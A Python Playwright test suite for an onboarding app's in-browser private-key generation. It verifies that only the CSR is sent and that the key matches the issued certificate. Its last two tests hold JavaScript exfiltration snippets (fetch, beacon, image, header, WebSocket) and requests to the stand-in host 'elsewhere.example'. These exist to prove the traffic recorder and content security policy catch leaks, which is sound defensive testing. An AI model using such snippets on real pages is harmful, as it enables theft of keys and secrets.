"""Custody `browser`, as people walk it: the key is made and saved, the CSR alone is sent, and it works in the end."""

import base64
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from cryptography import x509
from cryptography.hazmat.primitives.asymmetric.rsa import RSAPrivateKey
from cryptography.hazmat.primitives.serialization import load_pem_private_key
from playwright.sync_api import Dialog, Page, expect

from onboarding.pki.keys import encrypt_key, generate_rsa_key, spki_sha256
from tests.browser import steps
from tests.browser.conftest import Register, Visit
from tests.browser.visitor import Visitor
from tests.browser_key.traffic import Traffic, secrets_of

NAME = "Vans of the agencies"
COMPANY = "Société Générale"
PASSPHRASE = "wintergreen over seven bridges"
CUSTODY = "Your browser makes it"


Approved = Callable[[str, str], tuple[Visitor, str]]


@pytest.fixture
def approved(visit: Visit, register: Register) -> Approved:
    """Return a function that brings an application, by name and MZP, to its key, custody `browser`.

    It returns the partner, on the key's page, and the application's path.
    """

    def bring(name: str, mzp: str) -> tuple[Visitor, str]:
        path = register("fleet_owner", name, mzp)
        partner = visit("Example Mobility Owner")
        steps.name_the_key(partner, path, CUSTODY)
        return partner, path

    return bring


def make_the_key(partner: Visitor, passphrase: str = PASSPHRASE) -> None:
    """Make the key, up to the button that saves it."""
    page = partner.page
    page.get_by_label("Passphrase for the key's file").fill(passphrase)
    page.get_by_label("Passphrase, once more").fill(passphrase)
    page.get_by_role("button", name="Make the key").click()
    expect(page.get_by_role("heading", name="2. Save the key")).to_be_focused(timeout=60_000)


def test_a_key_made_in_the_browser_never_leaves_it_and_works_in_the_end(visit: Visit, approved: Approved) -> None:
    partner, path = approved(NAME, "MZP500001")
    page = partner.page
    traffic = Traffic(page.context)
    dialogs: list[str] = []

    def dismiss(dialog: Dialog) -> None:
        dialogs.append(dialog.type)
        dialog.dismiss()

    page.on("dialog", dismiss)
    partner.open(f"{path}sandbox/key/").look("key, three custodies").fill({"(O)": COMPANY}).press("Continue")
    partner.heading("Make the key in your browser").sees(COMPANY).look("key: browser")
    expect(page.get_by_text("This browser cannot make a key")).to_be_hidden()

    # The passphrase: too short, then not the same twice
    passphrase, repeated = page.get_by_label("Passphrase for the key's file"), page.get_by_label("once more")
    button = page.get_by_role("button", name="Make the key")
    passphrase.fill("short")
    expect(page.locator("[data-part=strength]")).to_have_text("Too short")
    button.click()
    expect(passphrase).to_be_focused()
    partner.sees("Use at least 12 characters").look("key: browser, short passphrase")
    passphrase.fill(PASSPHRASE)
    expect(page.locator("[data-part=strength]")).to_have_text("Strong")
    repeated.fill(PASSPHRASE + "s")
    button.click()
    expect(repeated).to_be_focused()
    partner.sees("This is not the same passphrase").look("key: browser, two passphrases")

    # Made; whoever leaves now is asked whether they mean it
    make_the_key(partner)
    expect(page.get_by_role("button", name="Check and submit the CSR")).to_be_hidden()
    partner.look("key: browser, made")
    page.get_by_role("link", name="Change these").click(no_wait_after=True)
    expect(page.get_by_role("heading", name="2. Save the key")).to_be_visible()
    assert dialogs == ["beforeunload"]

    # Saved, then submitted; nobody is asked any more
    file = partner.download("Save private-key.pem")
    page.get_by_text("What is sent").click()
    partner.look("key: browser, saved")
    partner.press("Check and submit the CSR").sees("checked and submitted", "Only you", "Made in your browser", COMPANY)
    assert dialogs == ["beforeunload"]
    partner.look("CSR, made in the browser")

    # Key and CSR belong together, and of the key nothing was sent
    key = load_pem_private_key(file, PASSPHRASE.encode())
    assert isinstance(key, RSAPrivateKey)
    csr = x509.load_pem_x509_csr((page.locator("#csr-pem").text_content() or "").encode())
    assert spki_sha256(key.public_key()) == spki_sha256(csr.public_key())

    # The certificate comes; the page compares, without sending the file
    steps.sign(visit("Issuer"), NAME)
    partner.open(f"{path}sandbox/certificate/").sees("openssl pkcs12 -export", spki_sha256(key.public_key()))
    assert compare(partner, b"", "") == "Choose the private key's file first"
    partner.look("certificate, no key file")
    assert compare(partner, file, PASSPHRASE) == "Yes: key and certificate belong together"
    partner.look("certificate, key compared")
    assert compare(partner, file, "not the right one") == "The passphrase does not open this file"
    assert compare(partner, file, "") == "This file is encrypted: type its passphrase, too"
    other = encrypt_key(generate_rsa_key(2048), PASSPHRASE.encode())
    assert compare(partner, other, PASSPHRASE) == "No: this is the key of another certificate"
    assert compare(partner, b"PK\x03\x04", "") == "There is no private key in PEM form in this file"
    assert traffic.holds(secrets_of(key, file, PASSPHRASE)) == set()
    assert traffic.without_body == []
    assert any(b"CERTIFICATE+REQUEST" in sent for sent in traffic.sent)

    # Lent for one run, it works
    partner.open(f"{path}sandbox/validate/").look("validate, key made in the browser")
    partner.give("Private key", "private-key.pem", file).fill({"Passphrase of the key": PASSPHRASE})
    partner.press("Validate").wait_for_run("Passed")


def compare(partner: Visitor, file: bytes, passphrase: str) -> str:
    """Compare a key file with the certificate on its page. Returns the answer's title."""
    if file:
        partner.give("Private key file", "private-key.pem", file)
    partner.page.get_by_label("Passphrase of the key's file").fill(passphrase)
    partner.page.get_by_role("button", name="Compare here, without uploading").click()
    answer = partner.page.locator("[data-answer]:visible .notice__title")
    expect(answer).to_have_count(1, timeout=60_000)
    return answer.text_content() or ""


def test_names_that_would_be_refused_are_named_before_a_key_is_made(approved: Approved) -> None:
    partner, path = approved("Names first", "MZP500002")
    partner.open(f"{path}sandbox/key/").fill({"(L)": "SociÃ©tÃ©"}).press("Continue")
    partner.sees("A CSR with these names would be refused").look("key: browser, names to mend")
    expect(partner.page.locator("[data-keymaker]")).to_have_count(0)


def test_without_script_or_a_secure_address_the_page_points_to_the_other_way(visit: Visit, approved: Approved) -> None:
    insecure, path = approved("Without script or a secure address", "MZP500003")
    insecure.page.add_init_script("Object.defineProperty(window, 'isSecureContext', {value: false})")
    for visitor in (insecure, visit("Example Mobility Owner", java_script_enabled=False)):
        visitor.open(f"{path}sandbox/key/browser/").sees("This browser cannot make a key on this page")
        expect(visitor.page.get_by_role("button", name="Make the key")).to_be_hidden()
        visitor.follow(re.compile("You make it, and keep it"))
    visitor.choose("You make it, and keep it").press("Continue")
    visitor.heading("Make the key, upload the CSR")


def test_a_csr_of_other_names_is_refused_and_another_key_can_be_made(approved: Approved, tmp_path: Path) -> None:
    partner, _path = approved("Other names", "MZP500005")
    config = "[req]\nprompt = no\ndistinguished_name = dn\n[dn]\nC = FR\nCN = MZP999999\n"
    _key, csr = steps.openssl(tmp_path / "other", config)
    make_the_key(partner)
    partner.download("Save private-key.pem")
    partner.page.locator("textarea[name=csr]").evaluate("(field, text) => { field.value = text; }", csr.decode())
    partner.press("Check and submit the CSR").sees("This CSR would be refused", "MZP500005")
    partner.look("key: browser, findings")
    make_the_key(partner)
    partner.download("Save private-key.pem")
    partner.press("Check and submit the CSR").sees("The CSR was checked and submitted")


# Ways in which a page could give a key away, none of which this one uses: the recording has to notice each.
LEAKS = {
    "a form's body": "(d) => fetch('/', {method: 'POST', body: new URLSearchParams({d})})",
    "a blob": "(d) => fetch('/', {method: 'POST', body: new Blob([Uint8Array.from(atob(d), (c) => c.charCodeAt(0))])})",
    "a beacon": "(d) => navigator.sendBeacon('/', d)",
    "an address": "(d) => fetch('/?' + new URLSearchParams({d}))",
    "a header": "(d) => fetch('/', {headers: {'X-Key': d}})",
    "a picture": "(d) => { new Image().src = '/?d=' + escape(d); }",
    "a web socket": "(d) => new Promise((done) => { new WebSocket('/?d=' + escape(d)).onerror = done; })",
}


def test_the_recording_notices_a_key_that_is_sent(page: Page) -> None:
    key = generate_rsa_key(2048)
    secrets = secrets_of(key, encrypt_key(key, b"x"), PASSPHRASE)
    traffic = Traffic(page.context)
    page.reload()
    assert traffic.sent
    assert traffic.holds(secrets) == set()
    for way, script in LEAKS.items():
        traffic.sent.clear()
        traffic.without_body.clear()
        with page.expect_event("websocket" if way == "a web socket" else "request"):
            page.evaluate(f"async (d) => {{ await ({script})(d); }}", base64.b64encode(secrets["d"]).decode())
        # A body that the recording cannot see, such as a blob's, is reported as such.
        assert "d" in traffic.holds(secrets) or traffic.without_body, way


def test_the_policy_lets_nothing_be_sent_elsewhere(page: Page) -> None:
    blocked: Any = page.evaluate(
        """async () => {
          const blocked = [];
          addEventListener("securitypolicyviolation", (event) => blocked.push(event.effectiveDirective));
          await fetch("https://elsewhere.example/", {method: "POST", body: "x"}).catch(() => {});
          const image = new Image();
          await new Promise((done) => { image.onerror = done; image.src = "https://elsewhere.example/?x"; });
          try { new WebSocket("wss://elsewhere.example/"); } catch {}
          for (let turn = 0; turn < 100 && blocked.length < 3; turn += 1) {
            await new Promise((done) => setTimeout(done, 20));
          }
          return blocked;
        }"""
    )
    assert sorted(blocked) == ["connect-src", "connect-src", "img-src"]
